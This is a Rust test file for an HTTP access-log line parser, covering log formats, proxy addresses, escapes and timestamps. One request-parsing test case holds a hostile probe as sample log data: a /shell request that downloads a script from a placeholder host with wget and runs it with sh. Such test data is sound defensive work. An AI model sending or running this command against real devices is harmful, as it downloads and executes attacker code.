use super::*;

fn parse(line: &str) -> Access<'_> {
    Access::parse(line).unwrap_or_else(|| panic!("{line}"))
}

/// The examples of Apache's documentation.
#[test]
fn common_and_combined() {
    let common = parse("127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" 200 2326\n");
    assert_eq!((common.remote_host, common.remote_logname, common.remote_user), ("127.0.0.1", None, Some("frank")));
    assert_eq!(
        (common.time, common.status, common.response_bytes),
        ("10/Oct/2000:13:55:36 -0700", "200", Some("2326"))
    );
    let request = common.request_line().expect("a request");
    assert_eq!((request.method, request.target, request.protocol), ("GET", "/apache_pb.gif", Some("HTTP/1.0")));
    assert_eq!((common.referer, common.user_agent, common.rest), (None, None, ""));

    let combined = parse(
        r#"127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)""#,
    );
    assert_eq!(combined.referer, Some("http://www.example.com/start.html"));
    assert_eq!(combined.user_agent, Some("Mozilla/4.08 [en] (Win98; I ;Nav)"));
    assert_eq!(combined.rest, "");
}

#[test]
fn what_servers_add() {
    // nginx's Docker image: `main` has the forwarded address last.
    let forwarded = parse(
        r#"172.17.0.1 - - [21/Nov/2026:11:20:00 +0000] "POST /a?b=%20c HTTP/1.1" 201 0 "-" "curl/8.5.0" "203.0.113.7, 10.0.0.1""#,
    );
    assert_eq!((forwarded.referer, forwarded.user_agent), (None, Some("curl/8.5.0")));
    assert_eq!(forwarded.rest, r#""203.0.113.7, 10.0.0.1""#);
    let virtual_host = parse(r#"shop.example:443 ::1 - - [21/Nov/2026:11:20:00 +0000] "-" 408 - "-" "-""#);
    assert_eq!((virtual_host.virtual_host, virtual_host.remote_host), (Some("shop.example:443"), "::1"));
    assert_eq!((virtual_host.request, virtual_host.request_line(), virtual_host.response_bytes), (None, None, None));
    let timed = parse(r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/2.0" 200 5 0.012 id"#);
    assert_eq!((timed.referer, timed.rest), (None, "0.012 id"));
}

#[test]
fn escapes() {
    let escaped = parse(
        r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET /\"a\" HTTP/1.1" 200 5 "\\" "caf\xC3\xA9 \x22x\x22 \xff \t\q""#,
    );
    assert_eq!(escaped.request, Some(r#"GET /\"a\" HTTP/1.1"#));
    assert_eq!(unescape(escaped.request.expect("a request")), "GET /\"a\" HTTP/1.1");
    assert_eq!(unescape(escaped.referer.expect("a referer")), "\\");
    assert_eq!(unescape(escaped.user_agent.expect("an agent")), "caf\u{e9} \"x\" \u{fffd} \t\\q");
    assert!(matches!(unescape("plain"), Cow::Borrowed("plain")));
    let handshake = parse(r#"::1 - - [21/Nov/2026:11:20:00 +0000] "\x16\x03\x01" 400 150 "-" "-""#);
    assert_eq!(handshake.request_line(), None);
}

#[test]
fn other_lines_are_none() {
    for line in [
        "",
        "127.0.0.1 - frank",
        "a b c [INFO] \"GET / HTTP/1.1\" 200 5",
        r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/1.1" 2000 5"#,
        r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/1.1" 200 five"#,
        r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/1.1 200 5"#,
        r#"::1 - - [21/Nov/2026:11:20:00 +0000] "GET / \"#,
        r#"::1  - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/1.1" 200 5"#,
        r#"::1 - - - - [21/Nov/2026:11:20:00 +0000] "GET / HTTP/1.1" 200 5"#,
    ] {
        assert_eq!(Access::parse(line), None, "{line}");
    }
}

/// Lists of addresses, users with blanks, and what they are taken for.
#[test]
fn clients_behind_proxies() {
    for (head, virtual_host, host, user) in [
        ("203.0.113.7 - -", None, "203.0.113.7", None),
        ("203.0.113.7, 10.0.3.4 - -", None, "203.0.113.7", None),
        ("203.0.113.7, 10.0.3.4, 10.0.9.9 - -", None, "203.0.113.7", None),
        ("203.0.113.7,10.0.3.4 - -", None, "203.0.113.7", None),
        ("2001:db8::7, 10.0.3.4 - -", None, "2001:db8::7", None),
        ("unknown, 10.0.3.4 - -", None, "10.0.3.4", None),
        ("\"203.0.113.7, 10.0.3.4\" - -", None, "203.0.113.7", None),
        ("\"203.0.113.7\" - -", None, "203.0.113.7", None),
        ("(203.0.113.7, 10.0.3.4) - bob", None, "203.0.113.7", Some("bob")),
        ("10.0.2.100 (203.0.113.7, 10.0.3.4) - -", None, "203.0.113.7", None),
        ("10.0.2.100 \"203.0.113.7, 10.0.3.4\" - -", None, "203.0.113.7", None),
        ("10.0.2.100 203.0.113.7, 10.0.3.4 - -", None, "203.0.113.7", None),
        ("10.0.2.100 203.0.113.7 - -", None, "203.0.113.7", None),
        ("203.0.113.7 10.0.2.100 - -", None, "203.0.113.7", None),
        ("203.0.113.7:51532, 10.0.3.4 - -", None, "203.0.113.7", None),
        ("[2001:db8::7]:443 - -", None, "2001:db8::7", None),
        ("203.0.113.7 - frank smith", None, "203.0.113.7", Some("frank smith")),
        ("client.example - frank de la smith", None, "client.example", Some("frank de la smith")),
        ("203.0.113.7, 10.0.3.4 - frank smith", None, "203.0.113.7", Some("frank smith")),
        ("www.shop.example:443 203.0.113.7 - -", Some("www.shop.example:443"), "203.0.113.7", None),
        ("www.shop.example 203.0.113.7, 10.0.3.4 - bob", Some("www.shop.example"), "203.0.113.7", Some("bob")),
        ("www.shop.example client.example - bob", Some("www.shop.example"), "client.example", Some("bob")),
        ("- - -", None, "-", None),
        ("x, - -", None, "x,", None),
    ] {
        let line = format!("{head} [21/Nov/2026:11:20:00 +0000] \"GET / HTTP/1.1\" 200 88");
        let found = parse(&line);
        assert_eq!((found.virtual_host, found.remote_host, found.remote_user), (virtual_host, host, user), "{head}");
    }
}

#[test]
fn times_of_other_forms() {
    for (time, is_time) in [
        ("21/Nov/2026:11:20:00 +0000", true),
        ("21/Nov/2026:11:20:00.123 +0000", true),
        ("21/Nov/2026:11:20:00.123456 -0700", true),
        ("2026-11-21T11:20:00+00:00", true),
        ("2026-11-21T11:20:00.123-07:00", true),
        ("2026-11-21T11:20:00Z", true),
        ("21/Nov/2026:11:20:00. +0000", false),
        ("21/Nov/2026 11:20:00", false),
        ("2026-11-21", false),
        ("11:20", false),
        ("1\u{e9}", false),
    ] {
        let line = format!("::1 - - [{time}] \"GET / HTTP/1.1\" 200 88");
        assert_eq!(Access::parse(&line).map(|found| found.time), is_time.then_some(time), "{time}");
    }
}

#[test]
fn requests_with_blanks_and_in_lower_case() {
    for (request, expected) in [
        ("GET / HTTP/1.1", Some(("GET", "/", Some("HTTP/1.1")))),
        (
            "GET /shell?cd+/tmp;wget+ a.b.example/jaws;sh+jaws HTTP/1.1",
            Some(("GET", "/shell?cd+/tmp;wget+ a.b.example/jaws;sh+jaws", Some("HTTP/1.1"))),
        ),
        ("GET  /two HTTP/1.1", Some(("GET", "/two", Some("HTTP/1.1")))),
        ("get /lower HTTP/1.1", Some(("get", "/lower", Some("HTTP/1.1")))),
        ("GET /a", Some(("GET", "/a", None))),
        ("GET /a b", Some(("GET", "/a b", None))),
        ("OPTIONS * RTSP/1.0", Some(("OPTIONS", "* RTSP/1.0", None))),
        ("hello there", None),
        ("GET  HTTP/1.1", None),
        ("GET", None),
        (r"\x16\x03\x01 a", None),
        ("\u{e9} / HTTP/1.1", None),
    ] {
        let line = format!("::1 - - [21/Nov/2026:11:20:00 +0000] \"{request}\" 200 88");
        let found = parse(&line).request_line().map(|found| (found.method, found.target, found.protocol));
        assert_eq!(found, expected, "{request}");
    }
}
